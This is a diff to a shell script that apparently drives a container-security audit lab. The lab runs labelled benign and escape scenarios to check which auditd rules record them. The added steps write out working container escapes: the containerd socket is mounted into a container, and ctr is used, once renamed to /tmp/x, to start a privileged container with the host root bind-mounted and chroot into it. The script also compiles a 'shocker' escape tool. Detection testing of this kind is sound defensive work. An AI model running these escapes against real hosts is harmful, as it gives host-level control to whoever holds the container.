@@ -74,6 +74,10 @@ teardown() {
     kill "$DOCKERD_PID" 2>/dev/null; for _ in $(seq 30); do kill -0 "$DOCKERD_PID" 2>/dev/null || break; sleep 0.5; done
   fi
   if [ -n "$CONTAINERD_PID" ]; then
+    for c in $(ctr -n default containers ls -q 2>/dev/null); do
+      ctr -n default tasks kill -s KILL "$c" >/dev/null 2>&1; ctr -n default tasks rm -f "$c" >/dev/null 2>&1
+      ctr -n default containers rm "$c" >/dev/null 2>&1
+    done
     kill "$CONTAINERD_PID" 2>/dev/null; for _ in $(seq 30); do kill -0 "$CONTAINERD_PID" 2>/dev/null || break; sleep 0.5; done
   fi
   for shim in $(pgrep -f containerd-shim-runc-v2); do kill "$shim" 2>/dev/null; done
@@ -121,7 +125,11 @@ COMPANION=$(sed -n 's/^##   \(for f in .*release_agent.*\) > .*/\1/p' "$RULES")
 [ -n "$COMPANION" ] || { say "no companion command in $RULES"; exit 1; }
 sh -c "$COMPANION" > "$WORK/companion.rules"
 if [ -s "$WORK/companion.rules" ]; then auditctl -R "$WORK/companion.rules" >/dev/null || { say "companion rules failed"; exit 1; }; fi
-cat "$RULES" "$WORK/companion.rules" > "$OUT/rules.loaded"
+# The opt-in rules the file ships commented out with a single '#' (the runtime-socket connect rules): the lab loads
+# them too, so every documented rule is exercised; a replay can drop their records to see what is lost without them.
+sed -n 's/^#\(-a .*\)$/\1/p' "$RULES" > "$WORK/optin.rules"
+if [ -s "$WORK/optin.rules" ]; then auditctl -R "$WORK/optin.rules" >/dev/null || { say "opt-in rules failed"; exit 1; }; fi
+cat "$RULES" "$WORK/companion.rules" "$WORK/optin.rules" > "$OUT/rules.loaded"
 
 marker() { auditctl -m "$TAG marker: $*"; }
 STEP=0
@@ -165,10 +173,15 @@ gcc -O2 -o "$WORK/rootfs/usr/local/bin/shocker" "$HERE/shocker.c"
 gcc -O2 -o "$WORK/rootfs/usr/local/bin/families" "$HERE/families.c"
 cp "$WORK/rootfs/usr/local/bin/families" "$WORK/families"
 cp /usr/bin/docker "$WORK/rootfs/usr/local/bin/docker"
+cp /usr/bin/ctr "$WORK/rootfs/usr/local/bin/ctr"   # containerd's own client (Debian's containerd package)
 tar -C "$WORK/rootfs" -c . | $DOCKER import -c 'CMD ["/bin/bash"]' - lab/debian:bookworm >/dev/null
 cp /bin/busybox "$WORK/busybox/bin/busybox"
 for applet in sh echo cat ls id chroot httpd ps wc hostname sleep mount; do ln -sf busybox "$WORK/busybox/bin/$applet"; done
 tar -C "$WORK/busybox" -c . | $DOCKER import -c 'CMD ["/bin/sh"]' - lab/busybox:latest >/dev/null
+# The same image in containerd's own namespace, for ctr (docker keeps its images in the namespace "moby").
+$DOCKER save lab/busybox:latest | ctr -n default images import - >/dev/null || { say "ctr images import failed"; exit 1; }
+CTR_IMAGE=$(ctr -n default images ls -q | grep -m1 'lab/busybox')
+[ -n "$CTR_IMAGE" ] || { say "no lab/busybox image in containerd's default namespace"; exit 1; }
 
 # A stand-in host disk (the VM refuses /dev/vda even to root).
 truncate -s 64M "$WORK/disk.img"
@@ -237,6 +250,15 @@ step E14 suspicious "privileged: bpf program load" -- $D lab-e14 --privileged la
 step E14a attempt-unseen "default container: bpf program load refused by seccomp (no audit record)" -- $D lab-e14a lab/debian:bookworm families bpf
 step B20 benign "host agent loads a bpf program" -- "$WORK/families" bpf
 step E15 attempt "privileged: finit_module/init_module (refused: ENOSYS without module support)" -- $D lab-e15 --privileged lab/debian:bookworm families module
+# Runtime sockets beyond docker: containerd's socket mounted into a container that has containerd's client `ctr`.
+# ctr hands the new task FIFOs of its own file system for stdio, which the host's shim cannot open: --null-io, and the
+# host commands write their output into a host file that the step prints.
+SOCK=/run/containerd/containerd.sock
+HOSTRUN="id > $WORK/ctr-out; hostname >> $WORK/ctr-out; cat $WORK/ctr-out"
+step E16 escape "containerd.sock + ctr: ctr run --privileged with the host / bound, chroot, host commands" -- sh -c "$D lab-e16 -v $SOCK:$SOCK lab/debian:bookworm ctr run --rm --null-io --privileged --mount type=bind,src=/,dst=/host,options=rbind:rw $CTR_IMAGE lab-e16-child chroot /host /bin/sh -c '$HOSTRUN' && cat $WORK/ctr-out; rm -f $WORK/ctr-out"
+step E16a escape "containerd.sock + ctr copied to /tmp/x: container create, then task start by id" -- sh -c "$D lab-e16a -v $SOCK:$SOCK lab/debian:bookworm sh -c 'cp /usr/local/bin/ctr /tmp/x && /tmp/x containers create --privileged --mount type=bind,src=/,dst=/host,options=rbind:rw $CTR_IMAGE lab-e16a-child chroot /host /bin/sh -c \"$HOSTRUN\" && /tmp/x tasks start --null-io lab-e16a-child; /tmp/x tasks rm lab-e16a-child; /tmp/x containers rm lab-e16a-child' && cat $WORK/ctr-out; rm -f $WORK/ctr-out"
+step B21 benign "monitoring container with containerd.sock: ctr version, containers ls, tasks ls, images ls" -- $D lab-b21 -v $SOCK:$SOCK lab/debian:bookworm sh -c 'ctr version; ctr containers ls; ctr tasks ls; ctr images ls -q'
+step B22 benign "host admin: ctr run of a plain container, containers ls" -- sh -c "ctr run --rm --null-io $CTR_IMAGE lab-b22 echo hello && ctr containers ls"
 step B14 benign-ambiguous "privileged agent-like container, no escape syscalls" -- $D lab-b14 --privileged lab/busybox sh -c 'ls /dev | wc -l'
 step B15 benign "short-lived default container after the attacks" -- $D lab-b15 lab/busybox echo end
 marker "phase=scenarios end"
